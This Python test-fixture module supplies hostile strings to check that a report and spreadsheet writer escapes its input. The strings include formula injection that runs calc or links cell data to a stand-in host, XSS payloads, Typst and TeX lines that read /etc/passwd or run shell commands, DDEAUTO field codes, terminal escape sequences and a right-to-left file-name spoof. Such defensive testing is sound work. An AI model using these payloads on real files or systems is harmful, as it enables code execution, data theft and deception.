"""Text that would do harm where a format took it for more than text, in every kind of block.

A writer has to show it as it stands. What no format can hold is in `UNCLEAN`, beside what is left
of it.
"""

from __future__ import annotations

from collections.abc import Mapping
from datetime import UTC, date, datetime

from domain.report import (
    Bar,
    Bars,
    Block,
    Box,
    Chart,
    Column,
    Document,
    Heading,
    Listing,
    Paragraph,
    Sheet,
    SheetColumn,
    Span,
    Style,
    Table,
    plain,
)

MADE = datetime(2012, 2, 20, 14, 30, tzinfo=UTC)

HOSTILE: Mapping[str, str] = {
    "formula": "=1+1",
    "formula that runs a program": "=cmd|' /C calc'!A0",
    "formula that links": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "plus": "+44 1603 000000",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at sign": "@SUM(1+1)",
    "full-width formula": "\uff1d1+1 \uff0b \uff0d \uff20",
    "tab before a formula": "\t=1+1",
    "array formula": "{=SUM(1;2)}",
    "number": "007",
    "date": "1/2",
    "apostrophe": "'=1+1",
    "script": "<script>alert('x')</script>",
    "image": '<img src="x" onerror="alert(1)">',
    "end of everything": "</td></table></style></title></svg><h1>Not a heading</h1>",
    "comment": "<!-- not a comment --> <![CDATA[ kept ]]>",
    "entities": "&amp; &lt;b&gt; &#x3c; &nbsp; &copy &notin; AT&T",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "processing instruction": "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x 'y'>]>&x;",
    "address": "https://example.invalid/a_b_(c)?d=e&f and www.example.invalid, a@example.invalid",
    "link": "[click](javascript:alert(1)) ![x](http://x.invalid/x.png) [a]: b <http://c.invalid>",
    "emphasis": "*one* **two** _three_ __four__ ~~five~~ `six` a*b*c snake_case_name",
    "block marks": "# no heading\n> no quotation\n- no point\n+ nor this\n1. nor this\n2) nor this",
    "rules": "---\n===\n***\n| a | b |\n|---|---|\n| c | d |",
    "fence": "```\nno code\n```\n~~~\nnor this\n    nor this, set in by four",
    "escapes": "back\\slash \\| \\* \\\\ C:\\new\\table |pipe| a|b",
    "footnote": "[^1] [ ] [x] :smile: @someone #12 $x$ $$y$$ ==marked== H~2~O",
    "wiki link": "[[x]] {{x}} {% x %} {{{x}}} ${x} #{x} <%= x %>",
    "typst": '#import "x" #read("/etc/passwd") $x^2$ @ref <label> *b* _i_ `r` \\u{41} //c /*d*/',
    "tex": "\\input{/etc/passwd} \\write18{ls} ^^41 % comment ~ # & _",
    "field code": '{ INCLUDETEXT "C:\\\\x" } { DDEAUTO c:\\\\windows "x" } \u00abMerge\u00bb',
    "escape of a workbook": "_x0041_ _x000D_ _xFFFE_ _x0041",
    "header codes": "&P of &N &D &A &[Page] &&",
    "percent signs": "%s %d %(x)s {0} {} \\n \\t",
    "quotation marks": "\u201cone\u201d \u2018two\u2019 \"three\" 'four' ''five'' \u00absix\u00bb",
    "welsh": "Tŷ Gŵyr, Llŷn, ŵ ŷ Ŵ Ŷ â ê î ô û ẁ ẃ ẅ ỳ ý ÿ",
    "emoji": "👩🏽\u200d👧🏾\u200d👦 🇬🇧 ❤️ 🏴󠁧󠁢󠁷󠁬󠁳󠁿",
    "right to left": "\u0634\u0643\u0631\u0627 (\u05e9\u05dc\u05d5\u05dd) 123 abc",
    "combining": "q\u0323\u0307 e\u0316\u0317\u0318\u0319 \u0e19\u0e49\u0e33 Z\u0351\u036b",
    "invisible": "zero\u200bwidth\u200cand\u200djoined soft\u00adhyphen \u2060word no\u00a0break",
    "lines": "one\n\nthree\n",
    "spaces": "  two before, two  between, two after  ",
    "very long word": "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch" * 6,
    "long text": "Seen in the record. " * 200,
    "longer than a cell": "x" + "9876543210 abc, d\n" * 1820 + "= the end",
    "blank": " ",
}

# What is cut out before a text is written, and so what a reader finds.
UNCLEAN: Mapping[str, tuple[str, str]] = {
    "colour of a terminal": ("\x1b[31mred\x1b[0m", "[31mred[0m"),
    "title of a terminal": (
        "\x1b]0;owned\x07text\x1b]8;;http://x.invalid\x1b\\y",
        "]0;ownedtext]8;;http://x.invalid\\y",
    ),
    "nul": ("a\x00b\x08c\x7fd\x9b31me", "abcd31me"),
    "line ends": ("a\r\nb\rc\x0bd\x0ce\x85f\u2028g\u2029h", "a\nb\nc\nd\ne\nf\ng\nh"),
    "turned direction": ("abc\u202egpj.exe\u202c \u2066x\u2069\u200f", "abcgpj.exe x"),
    "half a character": ("a\ud83db\udc00c", "abc"),
    "no character": ("a\ufffeb\uffffc", "abc"),
    "parted letters": ("w\u0302y\u0302", "\u0175\u0177"),
}

GIVEN: Mapping[str, str] = {**HOSTILE, **{name: pair[0] for name, pair in UNCLEAN.items()}}
KEPT: Mapping[str, str] = {**HOSTILE, **{name: pair[1] for name, pair in UNCLEAN.items()}}
SHORT = 200  # signs; longer texts stand in tables and paragraphs alone


def sample_document() -> Document:
    """Every hostile text in every kind of block, and in a sheet."""
    title = "".join((HOSTILE["script"], HOSTILE["header codes"], UNCLEAN["nul"][0]))
    return Document(
        title=title,
        subtitle=HOSTILE["welsh"] + HOSTILE["typst"],
        marking=f"OFFICIAL-SENSITIVE {HOSTILE['header codes']}",
        made=MADE,
        facts=tuple((name, text) for name, text in short().items()),
        blocks=(Heading(1, "Every kind of block"), *_tables(), *_texts(), *_gaps()),
        sheets=(_sheet("Answers"), _sheet("[a]:*?/\\ 'History'"), _sheet("answers")),
        foot=f"Case 07 {HOSTILE['entities']}",
    )


def short() -> dict[str, str]:
    """The texts a heading or the name of a bar may hold."""
    return {name: text for name, text in GIVEN.items() if len(text) <= SHORT}


def _tables() -> list[Block]:
    rows = tuple(
        (
            (plain(text),),
            ((Span(text, Style.QUOTE), Span(text, Style.STRONG)), plain(text)),
            (),
        )
        for text in GIVEN.values()
    )
    columns = (Column("Words", 2), Column(HOSTILE["escapes"], 4), Column("Number", 1, numeric=True))
    return [
        Table(HOSTILE["script"], columns, rows),
        Table("A table without names of rows", columns, rows[:3], row_heads=False),
        Table("A table without rows", columns, ()),
    ]


def _texts() -> list[Block]:
    blocks: list[Block] = []
    for name, text in GIVEN.items():
        if name in short():
            blocks += [Heading(2, text), Paragraph(plain(text), "lead")]
        blocks.append(Paragraph((Span(text), Span(text, Style.STRONG), Span(text, Style.QUOTE))))
        blocks.append(Paragraph(plain(text), "small"))
    items = tuple(plain(text) for text in GIVEN.values())
    return [*blocks, Listing(items), Listing(items, ordered=True), Listing(())]


def _gaps() -> list[Block]:
    bars = tuple(Bar(text, 64, text, (51.0, 75.6)) for text in short().values())
    edges = (
        Bar("none", None, "no score"),
        Bar("nothing", 0, "0%, 0 of 12", (0.0, 24.3)),
        Bar("all", 100, "100%, 12 of 12", (75.7, 100.0)),
    )
    blocks: list[Block] = [Bars(HOSTILE["script"], bars + edges), Bars("No bars", ())]
    for text in short().values():
        blocks += [Box(text, text, text), Box(text, "", text)]
    return blocks


def _sheet(name: str) -> Sheet:
    columns = (
        SheetColumn("Words", 30),
        SheetColumn(HOSTILE["formula"], 12),
        SheetColumn("Number", 8, "whole"),
        SheetColumn("Share", 8, "percent"),
        SheetColumn("Day", 12, "day"),
        SheetColumn("Moment", 18, "moment"),
    )
    rows = tuple(
        (text, name, number, number / 100, date(2012, 2, 20), MADE)
        for number, (name, text) in enumerate(GIVEN.items())
    )
    nothing = (None, "", None, None, None, None)
    last = len(rows) - 1
    chart = Chart(HOSTILE["formula that links"], 1, 3, 0, last)
    return Sheet(name, columns, (*rows, nothing), HOSTILE["formula that links"], (chart,))
